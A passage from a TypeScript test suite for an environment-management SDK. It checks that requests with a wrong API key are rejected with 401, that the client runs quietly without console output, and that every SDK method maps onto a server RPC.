  it("answers AuthenticationError (401, unauthenticated) to a client with a wrong API key, on both services", async () => {
    const p = peer();
    const stranger = p.clientWith("not-the-admin-token");
    await expectUnauthenticated(collect(stranger.environments.list({})));
    await expectUnauthenticated(stranger.environments.create(fromContextUrl(p.server.bootstrap.environmentClassId)));
    await expectUnauthenticated(collect(stranger.environments.classes.list({})));
    await expectUnauthenticated(stranger.environments.automations.upsert({ environmentId: missingId, automationsFile: documentedAutomationsFile }));
    await expectUnauthenticated(collect(stranger.environments.automations.services.list({})));
    await expectUnauthenticated(collect(stranger.environments.automations.tasks.executions.list({})));
    expect(await collect(p.sdk.environments.list({}))).toEqual([]);
  });
});

describe("embedding", () => {
  it("runs an environment and its automations from creation to deletion without writing to stdout or stderr", async () => {
    const streams = [vi.spyOn(process.stdout, "write"), vi.spyOn(process.stderr, "write")];
    const consoles = (["log", "info", "warn", "error", "debug"] as const).map((m) => vi.spyOn(console, m));
    try {
      const peer = await startSdkPeer();
      try {
        const environment = await createRunning(peer);
        await peer.sdk.environments.automations.upsert({ environmentId: environment.id, automationsFile: documentedAutomationsFile });
        await stopToStopped(peer, environment.id);
        await peer.sdk.environments.start({ environmentId: environment.id });
        await stepEnvironmentUntil(peer, environment.id, "ENVIRONMENT_PHASE_RUNNING", 20);
        await peer.clock.advance(10 * stepMs);
        await expectNotFound(peer.sdk.environments.retrieve({ environmentId: missingId }));
        await expectInvalidArgument(peer.sdk.environments.create({}));
        await peer.sdk.environments.delete({ environmentId: environment.id });
        await stepEnvironmentUntil(peer, environment.id, "gone", 20);
      } finally {
        await peer.close();
      }
      for (const spy of [...streams, ...consoles]) expect(spy.mock.calls).toEqual([]);
    } finally {
      for (const spy of [...streams, ...consoles]) spy.mockRestore();
    }
  });
});

describe("coverage of the SDK's environment and automation methods", () => {
  const client = () => new Gitpod({ bearerToken: "unused", baseURL: "http://127.0.0.1:9/api" });

  it("finds the same environment methods in the SDK's objects and in its declaration files", () => {
    const offered = sdkMethodsAtRunTime(client(), "environments");
    expect(offered).toEqual(sdkMethodsFromDeclarations("environments"));
    // 12 of client.environments, classes.list, automations.upsert, 7 of services, 6 of tasks, 3 of executions.
    expect(offered.length).toBeGreaterThanOrEqual(30);
  });

  it("called every environment and automation method the SDK offers, each at least once with success", () => {
    const offered = sdkMethodsAtRunTime(client(), "environments");
    expect(offered.filter((m) => !calledMethods.has(m))).toEqual([]);
    expect(offered.filter((m) => !succeededMethods.has(m))).toEqual([]);
  });

  it("maps the methods one to one onto the RPCs of our EnvironmentService and EnvironmentAutomationService, as the SDK's compiled JavaScript names them, and reached every one", () => {
    const rpcOf = new Map(readSdkDeclarations().methods.map((m) => [m.path, `/api/${m.service}/${m.rpc}`]));
    const offered = sdkMethodsAtRunTime(client(), "environments");
    expect(offered.filter((m) => !rpcOf.has(m))).toEqual([]);
    // The three RPCs the current API added to EnvironmentService have no method in the SDK 0.6.0.
    const newer = ["CreatePortAccessToken", "AllowPortAccess", "ArchiveEnvironment"].map((m) => `/api/gitpod.v1.EnvironmentService/${m}`);
    const ours = [EnvironmentService, EnvironmentAutomationService]
      .flatMap((s) => s.methods.map((m) => `/api/${s.typeName}/${m.name}`))
      .filter((p) => !newer.includes(p));
    const posted = offered.map((m) => rpcOf.get(m)!);
    // One method per RPC: all 13 + 17 the SDK knows, none twice, none elsewhere.
    expect([...posted].sort()).toEqual([...ours].sort());
    expect(posted.filter((p) => newer.includes(p))).toEqual([]);
    expect(rpcOf.get("environments.createEnvironmentToken")).toBe("/api/gitpod.v1.EnvironmentService/CreateEnvironmentAccessToken");
    const reached = new Set(everyRequestSent.map((r) => r.path));
    expect(ours.filter((p) => !reached.has(p))).toEqual([]);
    // Besides those, the tests used only RunnerConfigurationService's environment classes (to compare) and ListRunners (refused to an environment token).
    const besides = [...reached].filter((p) => !ours.includes(p)).sort();
    const runnerRpcs = [RunnerConfigurationService].flatMap((s) => s.methods.map((m) => `/api/${s.typeName}/${m.name}`));
    expect(besides.filter((p) => !runnerRpcs.includes(p) && p !== "/api/gitpod.v1.RunnerService/ListRunners")).toEqual([]);
    expect(everyRequestSent.every((r) => r.method === "POST")).toBe(true);
  });
});
